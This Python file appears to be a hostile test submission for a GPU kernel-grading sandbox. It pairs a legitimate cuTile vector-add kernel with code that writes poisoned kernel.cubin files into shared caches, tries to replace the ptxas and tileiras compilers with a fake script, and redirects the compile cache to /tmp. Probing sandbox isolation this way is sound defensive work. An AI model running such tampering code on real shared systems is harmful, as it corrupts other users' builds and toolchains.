import os
import shutil

# Shared places another job (or the supervisor) could read: the host's /tmp, the runner's
# caches, cuTile's default cache under a home directory.
TARGETS = [
    "/tmp/kj-pwned-dir",
    "/tmp/kerneljudge-cache/cuda",
    os.path.expanduser("~/.cache/kerneljudge/cuda"),
    "/root/.cache/cutile-python",
    os.path.expanduser("~/.cache/cutile-python"),
    "/var/tmp/kj-pwned",
]
for env in ("KERNELJUDGE_CACHE", "CUDA_TILE_CACHE_DIR", "XDG_CACHE_HOME"):
    if os.environ.get(env) and os.environ[env] != "off":
        TARGETS.append(os.path.join(os.environ[env], "..", "kj-pwned"))

for target in TARGETS:
    try:
        os.makedirs(target, exist_ok=True)
        with open(os.path.join(target, "kernel.cubin"), "w") as f:
            f.write("poisoned")
    except OSError:
        pass

# A fake compiler where the next job would run the real one: the folders that hold tileiras
# and ptxas are mounted read-only, so these writes fail.
FAKE = "#!/bin/sh\necho poisoned > /tmp/kj-pwned-compiler\nexit 1\n"
for tool in ("tileiras", "ptxas"):
    found = shutil.which(tool)
    if found:
        try:
            with open(found, "w") as f:
                f.write(FAKE)
        except OSError:
            pass
        try:
            os.replace(found, found + ".orig")
        except OSError:
            pass

# cuTile reads the variable when it first compiles: its cache would go to the shared /tmp
os.environ["CUDA_TILE_CACHE_DIR"] = "/tmp/kj-pwned-dir"

import cuda.tile as ct  # noqa: E402
import torch  # noqa: E402

TILE = 1024


@ct.kernel
def add_kernel(a, b, c, tile: ct.Constant[int]):
    pid = ct.bid(0)
    x = ct.load(a, index=(pid,), shape=(tile,))
    y = ct.load(b, index=(pid,), shape=(tile,))
    ct.store(c, index=(pid,), tile=x + y)


def solve(A, B, C, N):
    grid = ((N + TILE - 1) // TILE, 1, 1)
    ct.launch(torch.cuda.current_stream(), grid, add_kernel, (A, B, C, TILE))
